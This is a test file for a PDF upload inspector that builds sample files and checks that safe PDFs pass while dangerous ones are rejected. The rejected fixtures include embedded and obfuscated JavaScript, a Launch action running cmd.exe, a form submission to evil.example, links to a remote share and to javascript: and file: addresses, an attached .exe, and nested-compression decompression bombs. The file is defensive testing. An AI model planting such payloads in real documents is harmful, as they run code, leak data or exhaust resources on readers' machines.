import { deflateSync } from 'node:zlib'
import type { RejectedContent } from '@tearsheet/protocol/uploads'
import { PDFDocument, PDFName, PDFRawStream, PDFString } from 'pdf-lib'
import { describe, expect, it } from 'vitest'
import { makePdf } from '../testing/make-pdf.ts'
import { makeLockedPdf, makeRawPdf } from '../testing/make-raw-pdf.ts'
import { inspectPdf } from './inspect-pdf.ts'
import { readTemplate } from './printed-document.ts'
import { setPdf } from './set-pdf.ts'

/** Creates a PDF with a stream that contains an object followed by spaces, compressed repeatedly. */
async function padded(megabytes: number, layers: number, first = 'q Q'): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  pdf.addPage()
  let bytes: Uint8Array = Buffer.concat([Buffer.from(first, 'latin1'), Buffer.alloc(megabytes * 1024 * 1024, ' ')])
  for (let layer = 0; layer < layers; layer++) bytes = deflateSync(bytes)
  const filters = Array.from({ length: layers }, () => 'FlateDecode')
  pdf.catalog.set(
    PDFName.of('Padding'),
    pdf.context.register(PDFRawStream.of(pdf.context.obj({ Filter: filters }), bytes)),
  )
  return Buffer.from(await pdf.save({ useObjectStreams: false }))
}

const web = 'https://lakeside.example'
const hex = (text: string) => Buffer.from(text, 'latin1').toString('hex')
/** Returns an annotation with an action. */
const link = (action: string) => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>`
/** Returns an empty stream with these entries. */
const stream = (entries: string) => `<<${entries}/Length 0>>stream\n\nendstream`

const script = '/JS(app.alert\\(1\\))'

/** Creates a PDF with a script in a compressed object stream, as all current programs write them. */
async function packed(): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  pdf.addPage()
  const action = pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action))
  const bytes = Buffer.from(await pdf.save({ useObjectStreams: true }))
  return bytes
}

async function withFile(): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  pdf.addPage()
  await pdf.attach(Buffer.from('x'), 'a.exe')
  return Buffer.from(await pdf.save())
}

const [words, packedScript, carrying] = [await makePdf('Registrar', 'Registrar'), await packed(), await withFile()]
/** Creates a form with a text field, a box, a choice and a list. */
async function makeForm(): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  const page = pdf.addPage()
  const form = pdf.getForm()
  form.createTextField('name').addToPage(page)
  form.createCheckBox('agree').addToPage(page)
  form.createRadioGroup('shift').addOptionToPage('day', page)
  form.createDropdown('site').addToPage(page)
  return Buffer.from(await pdf.save())
}

/** Sets a document with a link and a table of contents, as this portal does. */
function setLinkedPdf(): Buffer {
  const { source } = readTemplate(new URL('preamble.typ', import.meta.url))
  const template = { source: `${source}\n#outline()\n= Words\n#link("https://lakeside.example")[Lakeside]` }
  return Buffer.from(setPdf({ template, title: 'Words', language: 'en', content: {}, madeAt: new Date() }))
}

const [withForm, portalPdf] = [await makeForm(), setLinkedPdf()]
const [withPassword, without] = [await makeLockedPdf('reader'), await makeLockedPdf('')]

describe('a PDF', () => {
  it('from a current program does not contain its scripts in plain text', () => {
    expect(packedScript.toString('latin1')).not.toContain('JavaScript')
  })

  it.each([
    ['of words', words],
    ['of one empty page', makeRawPdf('')],
    ['that opens at a page', makeRawPdf('/OpenAction[3 0 R/Fit]')],
    ['that opens at a page by an action', makeRawPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>')],
    [
      'with links',
      makeRawPdf('', link(`<</S/URI/URI(${web})>>`), link('<</S/URI/URI(mailto:jobs@lakeside.example)>>')),
    ],
    ['with a link in hexadecimal digits', makeRawPdf('', link(`<</S/URI/URI<${hex(web)}>>>`))],
    ['with buttons that turn pages', makeRawPdf('', link('<</S/Named/N/NextPage>>'), link('<</S/GoTo/D[3 0 R/Fit]>>'))],
    ['with bookmarks', makeRawPdf('/Outlines 4 0 R', '<</First 5 0 R/Last 5 0 R>>', '<</Title(A)/Dest[3 0 R/Fit]>>')],
    ['with comments', makeRawPdf('', '<</Annots[<</Subtype/Highlight>><</Subtype/Text>><</Subtype/Popup>>]>>')],
    [
      'with tags',
      makeRawPdf('', '<</Type/StructElem/S/P/A[<</O/Layout/Placement/Block>>]/Ref[5 0 R]>>', '<</S/Span>>'),
    ],
    [
      'with a transition, a group and page labels',
      makeRawPdf('', '<</Trans<</S/Wipe>>/Group<</S/Transparency>>/Nums[0<</S/D>>]>>'),
    ],
    ['with a form', withForm],
    ['of this portal', portalPdf],
  ])('%s is valid', async (_, content) => {
    expect(await inspectPdf(content)).toBe('sound')
  })

  it.each<[RejectedContent, string, Buffer]>([
    ['script', 'a script', makeRawPdf('', `<</S/JavaScript${script}>>`)],
    ['script', 'a script with a letter in code', makeRawPdf('', `<</S/J#61vaScript${script}>>`)],
    ['script', 'a script behind a NUL as white space', makeRawPdf('', `<</S\0/JavaScript${script}>>`)],
    ['script', 'a script behind a comment', makeRawPdf('', `<</S %look away\n/JavaScript${script}>>`)],
    ['script', 'a script whose kind is elsewhere', makeRawPdf('', '<</S 5 0 R/X(1)>>', '/JavaScript')],
    ['script', 'a script in a packed part', packedScript],
    ['script', 'scripts by name', makeRawPdf('/Names<</JavaScript<</Names[(a) 4 0 R]>>>>', '<</X 1>>')],
    ['script', 'PostScript', makeRawPdf('', stream('/Type/XObject/Subtype/PS'))],
    ['script', 'a 3D scene that starts a script', makeRawPdf('', stream('/Type/3D/Subtype/U3D/OnInstantiate(x)'))],
    ['action', 'a program to start', makeRawPdf('', '<</S/Launch/F(cmd.exe)>>')],
    ['action', 'a form to send', makeRawPdf('', '<</S/SubmitForm/F(https://evil.example)>>')],
    ['action', 'data to fetch', makeRawPdf('', '<</S/ImportData/F(a.fdf)>>')],
    ['action', 'a page of a file on a share', makeRawPdf('', link('<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>'))],
    ['action', 'a page of an embedded file', makeRawPdf('', '<</S/GoToE/T<</R/C/N(a)>>>>')],
    ['action', 'an unknown action of a link', makeRawPdf('', link('<</S/GoSomewhere>>'))],
    ['action', 'an unknown action behind a link', makeRawPdf('', link(`<</S/URI/URI(${web})/Next[<</S/Trans>>]>>`))],
    ['action', 'an unknown action of a visited link', makeRawPdf('', '<</PA<</S/Thread/F(a.pdf)>>>>')],
    ['action', 'an unknown action of a step', makeRawPdf('', '<</NA<</S/Thread/F(a.pdf)>>>>')],
    ['action', 'a command of the reader', makeRawPdf('', link('<</S/Named/N/SaveAs>>'))],
    ['action', 'a link that opens by itself', makeRawPdf(`/OpenAction<</S/URI/URI(${web})>>`)],
    ['action', 'an action after another on opening', makeRawPdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI>>>>')],
    ['action', 'an action on opening that is elsewhere', makeRawPdf('/OpenAction 4 0 R', '<</S/Named/N/Print>>')],
    ['action', 'actions of a page', makeRawPdf(`/AA<</O<</S/URI/URI(${web})>>>>`)],
    ...[
      'javascript:alert(1)',
      'file:///c:/a.exe',
      '\\\\\\\\evil\\\\a',
      'a.exe',
      'ms-word:x',
      ' javascript:1',
      'data:,x',
    ].map((address): [RejectedContent, string, Buffer] => [
      'link',
      `a link to ${address}`,
      makeRawPdf('', link(`<</S/URI/URI(${address})>>`)),
    ]),
    ['link', 'a link in hexadecimal digits', makeRawPdf('', link(`<</S/URI/URI<${hex('javascript:1')}>>>`))],
    ['link', 'a base for its links', makeRawPdf('/URI<</Base(file:///c:/)>>')],
    ['file', 'a file in it', carrying],
    ['file', 'a file at a page', makeRawPdf('', '<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]>>')],
    ['file', 'a collection of files', makeRawPdf('/Collection<</View/T>>')],
    ['outside', 'a stream in another file', makeRawPdf('', stream('/F(//evil.example/a)'))],
    ['outside', 'a page of another file as a picture', makeRawPdf('', stream('/Subtype/Form/Ref<</F(a.pdf)/Page 0>>'))],
    ['outside', 'a picture of another program', makeRawPdf('', stream('/Subtype/Image/OPI<</2.0<</F(a)>>>>'))],
    ['outside', 'a file at an address', makeRawPdf('', '<</Type/Filespec/F(https://evil.example/a)>>')],
    ...['Movie', 'Screen', 'RichMedia', '3D', 'Sound'].map((kind): [RejectedContent, string, Buffer] => [
      'media',
      `an annotation of the kind ${kind}`,
      makeRawPdf('', `<</Type/Annot/Subtype/${kind}/Rect[0 0 9 9]>>`),
    ]),
    ['media', 'a rendition by name', makeRawPdf('/Names<</Renditions<</Names[(a) 4 0 R]>>>>', '<</X 1>>')],
    ['annotation', 'an unknown annotation', makeRawPdf('', '<</Annots[5 0 R]>>', '<</Subtype/Other>>')],
    ['form', 'a form in XML', makeRawPdf('/AcroForm<</Fields[]/XFA[(template) 4 0 R]>>', '<</X 1>>')],
    ['form', 'an unknown entry of its form', makeRawPdf('/AcroForm<</Fields[]/Other 1>>')],
    ['form', 'an unknown field', makeRawPdf('', '<</FT/Other/T(a)>>')],
    ['form', 'a field that sends a file', makeRawPdf('', '<</FT/Tx/T(a)/Ff 1048576>>')],
  ])('reports %s in a PDF with %s', async (content, _, file) => {
    expect(await inspectPdf(file)).toEqual({ content })
  })

  it('that opens with a password is reported as locked, and accepted if only its owner has one', async () => {
    expect(await inspectPdf(withPassword)).toBe('locked')
    expect(await inspectPdf(without)).toBe('sound')
  })

  it('of version 2.0 is accepted', async () => {
    const newer = Buffer.from(makeRawPdf('').toString('latin1').replace('%PDF-1.7', '%PDF-2.0'), 'latin1')
    expect(await inspectPdf(newer)).toBe('sound')
  })

  it.each([
    ['without its objects', Buffer.from('%PDF-1.4\n1 0 obj<</X 1>>endobj\nstartxref\n9\n%%EOF')],
    [
      'whose list of objects points elsewhere',
      Buffer.from(makeRawPdf('').toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%shift\n'), 'latin1'),
    ],
  ])('%s is reported as damaged', async (_, content) => {
    expect(await inspectPdf(content)).toBe('damaged')
  })

  it.each([1, 2, 3])(
    'with a stream compressed %i times is damaged if it unpacks to more than the limit',
    async (layers) => {
      const bound = 4 * 1024 * 1024
      expect(await inspectPdf(await padded(2, layers), bound)).toBe('sound')
      const bomb = await padded(6, layers)
      expect(bomb.length).toBeLessThan(20_000)
      expect(await inspectPdf(bomb, bound)).toBe('damaged')
    },
  )

  it('with a stream that only appears to be compressed again is counted to its end', async () => {
    expect(await inspectPdf(await padded(6, 1, 'x\x9c?'), 4 * 1024 * 1024)).toBe('damaged')
  })

  it('with a stream compressed repeatedly is damaged, whatever it unpacks to', async () => {
    expect(await inspectPdf(await padded(1, 5))).toBe('damaged')
  })
})
